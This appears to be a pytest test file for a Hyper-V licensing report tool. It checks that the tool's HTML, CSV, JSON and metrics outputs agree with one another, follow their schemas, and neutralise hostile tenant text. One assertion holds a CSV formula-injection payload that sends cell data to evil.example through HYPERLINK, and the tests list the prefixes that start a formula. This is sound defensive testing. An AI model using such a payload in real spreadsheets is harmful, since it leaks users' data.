# Copyright: hyperv.avma contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The report's files: they agree with each other, keep to their formats, and do no harm whatever a tenant wrote."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.hyperv.avma.plugins.plugin_utils._report.building import build
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.comparison import InvalidReport, check
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.document import Document, document_of, to_json
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.material import LedgerMaterial, Material
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.openmetrics import to_openmetrics
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.spreadsheet import MONTH_COLUMNS, VM_COLUMNS, cell, months_csv, vms_csv
from ansible_collections.hyperv.avma.plugins.plugin_utils._report.webpage import to_html

from .fleet import NOW, large, settings
from .hostile import FORBIDDEN, PAYLOADS, planted

SCHEMA = Path(__file__).resolve().parents[5] / "docs" / "report.schema.json"


@pytest.fixture(scope="module")
def document() -> Document:
    material = large(4, 30, events=200)
    earlier = document_of(build(large(4, 28, events=100), settings()))
    return document_of(build(Material(material.hosts, material.guests, LedgerMaterial((), (), NOW), earlier), settings()))


@pytest.fixture(scope="module")
def hostile() -> Document:
    return planted()


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


class Page(HTMLParser):
    """What a browser would make of the page, as far as tests ask: elements, and the text of cells."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.totals: dict[str, int] = {}
        self._total: str | None = None
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._total = dict(attrs).get("data-total")

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._total:
            self.totals[self._total] = int(data)
            self._total = None

    def rows(self) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.elements if tag == "tr" and "data-i" in attributes]


def test_numbers_of_page_csv_json_and_metrics_agree(document: Document) -> None:
    totals = {
        name: count for name, count in document["totals"].items() if name not in ("vms", "attention") and not name.startswith("activated_")
    }
    found = {
        "json": Counter(vm["standing"] for vm in document["vms"]),
        "csv": Counter(row["standing"] for row in rows(vms_csv(document))),
        "rows of the page": Counter(row["data-s"] for row in Page(to_html(document)).rows()),
        "metrics": Counter(),
    }
    for labels, value in re.findall(r"^hyperv_avma_vms\{(.*)\} (\d+)$", to_openmetrics(document, 0), re.MULTILINE):
        found["metrics"][re.search(r'standing="(\w+)"', labels)[1]] += int(value)  # type: ignore[index]
    for where, counted in found.items():
        assert {name: counted[name] for name in totals} == totals, where
    assert Page(to_html(document)).totals == totals
    assert sum(totals.values()) == document["totals"]["vms"] == len(document["vms"])
    months = rows(months_csv(document))
    assert [int(row["maximum"]) for row in months] == [row["maximum"] for row in document["months"]]
    assert all(max(int(row[f"{day:02d}"] or 0) for day in range(1, 32)) == int(row["maximum"]) for row in months)


@pytest.mark.parametrize("which", ["document", "hostile"])
def test_json_is_valid_against_the_published_schema(which: str, request: pytest.FixtureRequest) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(json.loads(to_json(request.getfixturevalue(which))))


def test_the_names_of_the_report_and_their_order_stay() -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    kinds = schema["$defs"]
    assert " ".join(schema["properties"]) == (
        "schema version title generated observed events_since totals groups actions hosts vms unmatched timeline months comparison notes"
    )
    assert " ".join(kinds["vm"]["properties"]) == (
        "id name inventory_name host cluster tenant tenant_source state release edition os os_source channel licence_status "
        "partial_product_key standing as_of conclusion source reason first_success last_success lease statements severity findings"
    )
    assert " ".join(kinds["host"]["properties"]) == (
        "name computer cluster release edition os channel licence_status ready reason vms events events_complete severity findings"
    )
    assert " ".join(kinds["action"]["properties"]) == "code severity title kind meaning remedy affected objects"
    assert " ".join(kinds["finding"]["properties"]) == "code severity object cause remedy"
    assert " ".join(kinds["month"]["properties"]) == "month level tenant host maximum day_of_maximum days seen"
    assert " ".join(kinds["comparison"]["properties"]) == "with totals changes"
    assert " ".join(kinds["totals"]["properties"]) == (
        "vms attention activated lapsed licensed_otherwise not_activated contradicted not_applicable unknown "
        "activated_proven activated_logged activated_logged_since"
    )


def test_json_has_the_names_of_the_schema_in_its_order(document: Document) -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    kinds = schema["$defs"]
    assert list(document) == list(schema["properties"])
    for name, one in (("vm", document["vms"][0]), ("host", document["hosts"][0]), ("action", document["actions"][0])):
        assert list(one) == list(kinds[name]["properties"]), name
    assert list(document["totals"]) == list(kinds["totals"]["properties"])
    assert list(document["comparison"]) == list(kinds["comparison"]["properties"])
    vm = next(one for one in document["vms"] if one["statements"])
    assert sorted(vm["statements"][0]) == sorted(kinds["vm"]["properties"]["statements"]["items"]["properties"])


def test_columns_of_the_spreadsheet_stay() -> None:
    assert " ".join(VM_COLUMNS) == (
        "name id inventory_name host cluster tenant tenant_source state release edition os_source channel licence_status "
        "partial_product_key standing as_of source conclusion reason first_success last_success lease_state lease_basis lapses "
        "severity findings remedy"
    )
    assert " ".join(MONTH_COLUMNS[:7]) == "month level tenant host maximum day_of_maximum 01"
    assert (MONTH_COLUMNS[36], MONTH_COLUMNS[37], len(MONTH_COLUMNS)) == ("31", "seen_01", 68)


def test_schema_refuses_what_is_no_report(document: Document) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    validator = jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text(encoding="utf-8")))
    assert not validator.is_valid({**document, "surprise": 1})
    assert not validator.is_valid({**document, "totals": {**document["totals"], "vms": -1}})
    assert not validator.is_valid({name: value for name, value in document.items() if name != "months"})


# hostile text


def test_payloads_are_text_in_the_page(hostile: Document) -> None:
    text = to_html(hostile)
    page = Page(text)
    assert Counter(tag for tag, _attributes in page.elements)["script"] == 2
    assert not any(name.startswith("on") or name == "style" for _tag, attributes in page.elements for name in attributes)
    assert {tag for tag, _attributes in page.elements} & {"img", "iframe", "object", "embed", "base", "link", "form"} <= {"form"}
    assert not any(attributes.get("href", "#")[:1] != "#" for tag, attributes in page.elements if tag == "a")  # type: ignore[index]
    shown = "".join(page.text)
    for payload in PAYLOADS[:12]:
        assert payload in shown, payload
    assert str(1337 * 1337) not in shown


@pytest.mark.parametrize("make", [to_html, vms_csv, months_csv, to_json, lambda document: to_openmetrics(document, 0)])
def test_no_file_holds_control_or_bidirectional_characters(hostile: Document, make: Any) -> None:
    text = make(hostile)
    assert not [character for character in FORBIDDEN if character in text]
    text.encode("utf-8")


def test_no_cell_is_a_formula(hostile: Document) -> None:
    found = [value for text in (vms_csv(hostile), months_csv(hostile)) for row in rows(text) for value in row.values()]
    assert not [value for value in found if value.lstrip(" \t").startswith(("=", "+", "-", "@", "\uff1d"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in found
    assert 'semi;colon,comma"quote' in found


@pytest.mark.parametrize(
    ("value", "expected"),
    [(None, ""), (True, "yes"), (0, "0"), (-3, "-3"), ("-3", "'-3"), ("\t=1", "'\t'=1"), ("a=b", "a=b"), ("\uff0b1", "'\uff0b1"), ("", "")],
)
def test_cells(value: Any, expected: str) -> None:
    assert cell(value) == expected


def test_csv_is_as_rfc_4180_has_it(hostile: Document) -> None:
    text = vms_csv(hostile)
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    assert len({len(row) for row in csv.reader(io.StringIO(text, newline=""), strict=True)}) == 1
    assert len(rows(text)) == len(PAYLOADS)


def test_metrics_are_read_by_a_client_of_prometheus(hostile: Document, document: Document) -> None:
    parser = pytest.importorskip("prometheus_client.openmetrics.parser")
    for one in (hostile, document):
        families = {family.name: family for family in parser.text_string_to_metric_families(to_openmetrics(one, 1700000000))}
        assert sum(sample.value for sample in families["hyperv_avma_vms"].samples) == one["totals"]["vms"]
        assert families["hyperv_avma_report_generated_timestamp_seconds"].samples[0].value == 1700000000


# comparison


def test_what_changed_is_named(document: Document) -> None:
    comparison = document["comparison"]
    assert comparison["with"] == "2026-11-23T12:00:00Z"
    kinds = Counter((change["object"], change["kind"]) for change in comparison["changes"])
    assert kinds["vm", "appeared"] == 8
    assert not kinds["vm", "gone"]
    moved = [change for change in comparison["changes"] if change["attribute"] == "host"]
    assert all(change["before"] != change["after"] for change in comparison["changes"] if change["kind"] == "changed")
    assert moved


def test_nothing_changed() -> None:
    material = large(2, 10, events=40)
    first = document_of(build(material, settings()))
    again = document_of(build(Material(material.hosts, material.guests, None, check(json.loads(to_json(first)))), settings()))
    assert again["comparison"]["changes"] == []
    assert set(again["comparison"]["totals"].values()) == {0}


@pytest.mark.parametrize("value", [None, [], {}, {"schema": "other"}, {"schema": "hyperv-avma-report", "version": 99}])
def test_what_is_no_report_cannot_be_compared_with(value: Any) -> None:
    with pytest.raises(InvalidReport):
        check(value)
